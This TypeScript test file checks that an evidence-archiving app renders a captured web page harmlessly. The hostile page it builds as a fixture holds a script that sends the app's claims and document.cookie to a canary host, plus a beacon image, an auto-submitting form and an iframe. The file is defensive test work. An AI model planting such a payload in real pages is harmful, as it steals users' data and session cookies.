import { beforeAll, describe, expect, it } from 'vitest';
import type { Desk } from '../../src/desk.ts';
import { makeApp } from '../../src/http/app.ts';
import { serveDesk } from '../../src/http/serve-desk.ts';
import { showSource } from '../../src/queries/show-source.ts';
import { addEvidence } from '../../src/services/add-evidence.ts';
import { captureSource } from '../../src/services/capture-source.ts';
import { logClaim } from '../../src/services/log-claim.ts';
import { english } from '../../src/summaries/words/english.ts';
import { hasBrowser, noBrowser, openBrowser } from '../support/browser.ts';
import { type LoopbackServer, loopbackServer } from '../support/loopback-server.ts';
import { newDesk, scratchFolder } from '../support/test-desks.ts';

const host = '127.0.0.1:4173';
const options = { words: english, onFailure: (error: unknown) => failures.push(error) };
const failures: unknown[] = [];
let desk: Desk;
let canary: LoopbackServer;

/** A page that would read the desk, send it home and act in its reader's name, if it were served as one. */
const page = (home: string) => `<!doctype html><html><head><title>The quay</title>
<base href="${home}/"><meta http-equiv="refresh" content="0; url=${home}/refreshed">
<script>fetch('/claims').then((answer) => answer.text()).then((text) => fetch('${home}/?' + text + document.cookie))</script>
<link rel="stylesheet" href="${home}/style.css"></head><body onload="window.pwned=1"><article>
<p>The quay was paid for in March, the port says, and nobody asked by whom.</p>
<p>&lt;script&gt;window.pwned=2&lt;/script&gt; is how a script begins and ends.</p>
<img src="${home}/beacon.png"><form action="${home}/steal" method="post"><input name="word" value="x"><button>Go</button></form>
<iframe src="/claims"></iframe></article><script>document.forms[0].submit()</script></body></html>`;

beforeAll(async () => {
  canary = await loopbackServer((_request, response) => response.end('heard'));
  desk = await newDesk(scratchFolder());
  const bytes = Buffer.from(page(canary.url));
  await captureSource(desk, bytes, { slug: 'quay-page', mediaType: 'text/html', evenSo: true });
  await logClaim(desk, { text: 'The quay was paid for.', slug: 'quay' });
  await addEvidence(desk, {
    ...{ claim: 'quay', stance: 'supports', source: 'quay-page' },
    quote: 'The quay was paid for in March',
  });
  return () => desk.store.close();
});

describe('attack 6: an archived page', () => {
  const get = (path: string) =>
    makeApp({ ...options, desk, hosts: new Set([host]) }).request(`http://${host}${path}`, {
      headers: { host },
    });

  it('is shown as its words, with nothing that acts', async () => {
    const shown = await (await get('/sources/quay-page')).text();
    expect(shown).toContain('nobody asked by whom');
    expect(shown).toContain('&lt;script&gt;window.pwned=2');
    expect(shown).not.toMatch(/<(?:script|iframe|base|meta http-equiv|img)|onload=/i);
    expect(shown).not.toContain(canary.url);
  });

  it('is served as a page at no path', async () => {
    const { source } = await showSource(desk, { source: 'quay-page' });
    const [snapshot] = source.snapshots;
    const names = [snapshot?.n, snapshot?.id, snapshot?.value.bytesSha256, 'quay-page'];
    const folders = ['snapshots', 'blobs', 'archive', 'bytes', 'raw', 'sources'];
    for (const name of names) {
      for (const folder of folders) {
        for (const path of [`/${folder}/${name}`, `/${folder}/${name}/raw`, `/${name}`]) {
          expect(await (await get(path)).text(), path).not.toContain('document.cookie');
        }
      }
    }
    expect(failures).toEqual([]);
  });

  it.runIf(hasBrowser)('opened in a browser runs nothing and calls nobody', async () => {
    const serving = await serveDesk({ ...options, desk, host: '127.0.0.1', port: 0 });
    const browser = await openBrowser();
    try {
      const opened = await browser.newPage();
      for (const path of ['/sources/quay-page', '/claims/quay']) {
        await opened.goto(`${serving.url}${path}`);
        expect(await opened.evaluate('window.pwned')).toBeUndefined();
      }
      expect(canary.connections()).toBe(0);
    } finally {
      await browser.close();
      await serving.close();
    }
  });
});

if (!hasBrowser) console.info(`skipped: an archived page in a browser, for ${noBrowser}`);
